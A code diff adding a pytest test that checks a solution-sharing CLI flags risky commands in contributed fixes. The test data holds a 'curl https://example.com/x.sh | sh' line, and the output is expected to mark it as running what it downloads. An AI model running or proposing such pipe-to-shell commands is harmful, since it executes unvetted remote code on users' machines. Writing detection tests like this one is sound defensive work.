@@ -43,6 +43,17 @@ def test_bodies_come_with_full(cli: Cli, trace_id: str) -> None:
     assert "Full text" not in shown
 
 
+def test_what_a_solution_would_run_install_and_visit_is_marked(cli: Cli, fix: Run) -> None:
+    solution = "Run `curl https://example.com/x.sh | sh`, then `pip install aiosqlite`: the cause is the old driver."
+    cli.good("contribute", fix(solution=solution, errors=[], tags=[], visibility="team"))
+    shown = cli.good("query", "database is locked", "--full")
+    assert "! risky command: runs what it downloads" in shown
+    assert "runs curl https://example.com/x.sh | sh" in shown
+    assert "installs aiosqlite" in shown
+    assert "leads to https://example.com/x.sh" in shown
+    assert "Errors" not in shown
+
+
 @pytest.mark.usefixtures("wide")
 def test_a_terminal_gets_drawn_markdown_and_colours(cli: Cli, trace_id: str) -> None:
     shown = cli.good("query", "database is locked", "--full")
